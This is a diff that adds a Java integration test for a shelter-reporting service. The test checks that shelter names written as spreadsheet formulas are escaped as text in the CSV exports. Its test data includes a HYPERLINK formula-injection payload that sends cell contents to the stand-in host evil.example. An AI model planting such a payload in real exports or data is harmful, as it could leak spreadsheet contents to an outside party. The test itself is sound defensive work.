@@ -1,0 +1,45 @@
+package org.shelters.reporting;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+import static org.shelters.reporting.Programme.*;
+
+import java.time.Duration;
+import java.time.LocalDate;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.shelters.events.agreements.SupplyCategory;
+import org.shelters.events.shelters.Corridor;
+
+/**
+ * A shelter registered with a name a spreadsheet would run as a formula reaches both CSV exports
+ * as text: a leading single quote, in double quotes; the JSON reports show it as it is.
+ */
+class FormulaInjectionIT extends ReportingIT {
+
+    static final String NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Albergue\")";
+    static final String CELL = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Albergue\"\")\"";
+
+    @Test
+    void aFormulaNameIsTextInEveryExport() {
+        String donor = "-" + id("donor");
+        String shelterId = id("shelter");
+        LocalDate today = today();
+        programme.send(shelter(shelterId, NAME, "MX-CHP", Corridor.SOUTHERN_BORDER, 30));
+        programme.send(signed(id("agreement"), shelterId, donor, "PHASE-1", terms(today.minusDays(10), today.plusDays(10),
+                "1000", line("L1", SupplyCategory.MEDICINES, "10"))));
+        programme.send(arrivals(shelterId, today, 1, 12, 3, 3, 3, 3, 12));
+        programme.flush();
+        await().atMost(Duration.ofSeconds(30)).until(() -> request("GET", "/api/reports/exports/3w.csv?donor=" + donor)
+                .body().contains(shelterId));
+        for (String export : List.of("/api/reports/exports/3w.csv?donor=", "/api/reports/exports/shelters.csv?donor=")) {
+            String csv = request("GET", export + donor, as("ANALYST")).body();
+            String row = csv.lines().filter(l -> l.contains(shelterId)).findFirst().orElseThrow();
+            assertThat(row).as(export).contains("," + CELL + ",").doesNotContain(",=HYPERLINK");
+            assertThat(row).as("numbers stay numbers").contains(",30,12,");
+        }
+        assertThat(request("GET", "/api/reports/exports/3w.csv?donor=" + donor, as("ANALYST")).body())
+                .as("a donor starting with '-' is text too").contains(",\"'" + donor + "\",");
+        assertThat(get("/api/reports/shelters/" + shelterId).get("data").get("name").asString()).isEqualTo(NAME);
+    }
+}
